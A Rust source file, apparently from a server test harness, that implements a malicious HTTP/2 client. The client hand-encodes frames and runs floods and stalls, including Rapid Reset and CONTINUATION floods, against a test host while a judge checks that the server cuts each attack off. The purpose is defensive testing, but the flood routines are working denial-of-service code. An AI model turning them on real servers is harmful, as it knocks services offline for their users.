//! A client that attacks the server with frames of HTTP/2 which it writes itself.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf, split};
use tokio::time::{sleep, timeout};

use crate::client::{Client, PATIENCE};
use crate::request::Route;
use crate::tls::Socket;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The types of frames (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Their flags.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// More frames than the server takes from one client: its limits are 500 and 1,000, and a tenth recovers each second.
const FLOOD: u32 = 20_000;

/// The time from the end of a flood to that of its connection: that of a lingering close.
const AFTER_FLOOD: Duration = Duration::from_secs(45);

/// The time for a flood: less than the first timeouts, so that its frames and packets are the reason for its end.
const FLOOD_TIME: Duration = Duration::from_secs(8);

/// A malicious client.
pub(crate) struct Attacker(pub(crate) Client);

/// What it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    /// It cancels each request at once (CVE-2023-44487).
    RapidReset,
    Pings,
    Settings,
    EmptyData,
    /// Empty parts of a header block without end (CVE-2024-27316).
    EmptyContinuations,
    /// Bytes of a body, each in a packet of its own.
    TinyData,
    /// It opens no window for the responses.
    ZeroWindow,
    /// It reads nothing.
    Deaf,
    /// It begins many requests with bodies, and ends none.
    Hoard,
    /// It sends nothing after the preface.
    Silence,
    /// It opens a window beyond its maximum.
    Overflow,
    /// It sends frames of random types and contents.
    Noise,
}

impl Attack {
    const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::Pings,
        Self::Settings,
        Self::EmptyData,
        Self::EmptyContinuations,
        Self::TinyData,
        Self::ZeroWindow,
        Self::Deaf,
        Self::Hoard,
        Self::Silence,
        Self::Overflow,
        Self::Noise,
    ];

    /// Returns whether the server ends it for its frames, instead of for what it leaves out.
    fn is_flood(self) -> bool {
        use Attack::{EmptyContinuations, EmptyData, Noise, Overflow, Pings, RapidReset, Settings, TinyData};
        matches!(
            self,
            RapidReset | Pings | Settings | EmptyData | EmptyContinuations | TinyData | Overflow | Noise
        )
    }
}

impl Attacker {
    /// Attacks once.
    pub(crate) async fn run(mut self) {
        sleep(Duration::from_millis(self.0.random.u64(..2_000))).await;
        let attack = self.0.random.choice(Attack::ALL).unwrap_or(Attack::Silence);
        self.0.trace.tell(&format!("{}: attacks with {attack:?}", self.0.name));
        self.0.judge.begins(self.0.first_id, true);
        self.0.judge.count(|counts| counts.disturbances += 1);
        match attack {
            Attack::Hoard | Attack::TinyData => self.0.judge.occupies(Route::Http2),
            Attack::ZeroWindow | Attack::Deaf => self.0.judge.occupies(Route::Http1),
            _ => {}
        }
        let name = self.0.name.clone();
        // A slow network joins packets, so that there are fewer.
        let is_fast = self.0.network.conditions.delay_us.1 < 1_000;
        let patience = if attack.is_flood() && is_fast { FLOOD_TIME } else { PATIENCE };
        match timeout(patience, self.attack(attack)).await {
            Ok(Ok(())) => self.0.trace.tell(&format!("{name}: the server has ended {attack:?}")),
            Ok(Err(error)) => self.0.trace.tell(&format!("{name}: {attack:?}: {error}")),
            Err(_) => self.0.judge.fault(format!("{attack:?} has no end within {patience:?}")),
        }
    }

    async fn attack(&mut self, attack: Attack) -> io::Result<()> {
        let end = self.0.dial().await?;
        let (mut reader, mut writer) = split(end);
        let writes = async {
            // Fails when the server has had enough.
            let _ = self.write(attack, &mut writer).await;
            if attack == Attack::Deaf {
                // Longer than a response may stall.
                sleep(Duration::from_mins(2)).await;
            }
        };
        if attack == Attack::Deaf {
            writes.await;
            return read_to_end(&mut reader).await;
        }
        let mut reads = std::pin::pin!(read_to_end(&mut reader));
        tokio::select! {
            biased;
            read = &mut reads => return read,
            () = writes => {}
        }
        if !attack.is_flood() {
            return reads.await;
        }
        timeout(AFTER_FLOOD, reads).await.unwrap_or_else(|_| {
            self.0.judge.fault(format!("the server takes all of {attack:?}"));
            Ok(())
        })
    }

    async fn write(&mut self, attack: Attack, writer: &mut WriteHalf<Socket>) -> io::Result<()> {
        let window: u32 = if attack == Attack::ZeroWindow { 0 } else { 0x7FFF_FFFF };
        // SETTINGS_INITIAL_WINDOW_SIZE is 4.
        let settings = frame(SETTINGS, 0, 0, &[&[0, 4][..], &window.to_be_bytes()].concat());
        writer.write_all(&[PREFACE, &settings].concat()).await?;
        match attack {
            Attack::ZeroWindow | Attack::Deaf => {
                for stream in (1..20).step_by(2) {
                    writer.write_all(&self.request(stream, "/origin/7-300000-0", true)).await?;
                }
            }
            Attack::Hoard => {
                for stream in (1..400).step_by(2) {
                    let body = frame(DATA, 0, stream, &[b'u'; 1_000]);
                    writer.write_all(&[self.request(stream, "/http2/7-10-0", false), body].concat()).await?;
                }
            }
            Attack::Silence => {}
            Attack::EmptyData | Attack::TinyData => {
                writer.write_all(&self.request(1, "/http2/7-10-0", false)).await?;
                self.flood(attack, writer).await?;
            }
            Attack::EmptyContinuations => {
                writer.write_all(&frame(HEADERS, END_STREAM, 1, &[])).await?;
                self.flood(attack, writer).await?;
            }
            Attack::RapidReset | Attack::Pings | Attack::Settings | Attack::Overflow | Attack::Noise => {
                self.flood(attack, writer).await?;
            }
        }
        Ok(())
    }

    /// Sends frames until the server ends the connection.
    async fn flood(&mut self, attack: Attack, writer: &mut WriteHalf<Socket>) -> io::Result<()> {
        for number in 0..FLOOD {
            let frames = match attack {
                Attack::RapidReset => {
                    let stream = number * 2 + 1;
                    let request = self.request(stream, "/http2/7-10-0", true);
                    [request, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                }
                Attack::Pings => frame(PING, 0, 0, &u64::from(number).to_be_bytes()),
                Attack::Settings => frame(SETTINGS, 0, 0, &[]),
                Attack::EmptyData => frame(DATA, 0, 1, &[]),
                Attack::TinyData => {
                    let bytes = frame(DATA, 0, 1, b"u");
                    for byte in bytes {
                        writer.write_all(&[byte]).await?;
                        // Otherwise the network would join the packets.
                        sleep(Duration::from_millis(1)).await;
                    }
                    continue;
                }
                Attack::EmptyContinuations => frame(CONTINUATION, 0, 1, &[]),
                Attack::Overflow => frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFF_u32.to_be_bytes()),
                _ => {
                    let random = &mut self.0.random;
                    let payload: Vec<u8> = (0..random.usize(..40)).map(|_| random.u8(..)).collect();
                    frame(random.u8(..12), random.u8(..), random.u32(..6), &payload)
                }
            };
            writer.write_all(&frames).await?;
        }
        Ok(())
    }

    /// Returns the frame that begins a request, whose fields are literals without an index (RFC 7541 §6.2.2).
    fn request(&self, stream: u32, path: &str, is_complete: bool) -> Vec<u8> {
        // `:method` and `:scheme` from the static table, then names of it by index.
        let mut block = vec![if is_complete { 0x82 } else { 0x83 }, 0x86];
        let text = |text: &str| {
            let length = u8::try_from(text.len()).expect("a short text");
            [&[length], text.as_bytes()].concat()
        };
        block.extend([vec![0x04], text(path), vec![0x01], text("site.test")].concat());
        block.extend([vec![0], text("x-request"), text(&self.0.first_id.to_string())].concat());
        frame(HEADERS, END_HEADERS | if is_complete { END_STREAM } else { 0 }, stream, &block)
    }
}

/// Encodes a frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Reads until the server ends the connection.
async fn read_to_end(reader: &mut ReadHalf<Socket>) -> io::Result<()> {
    let mut bytes = [0; 4096];
    while reader.read(&mut bytes).await? > 0 {}
    Ok(())
}
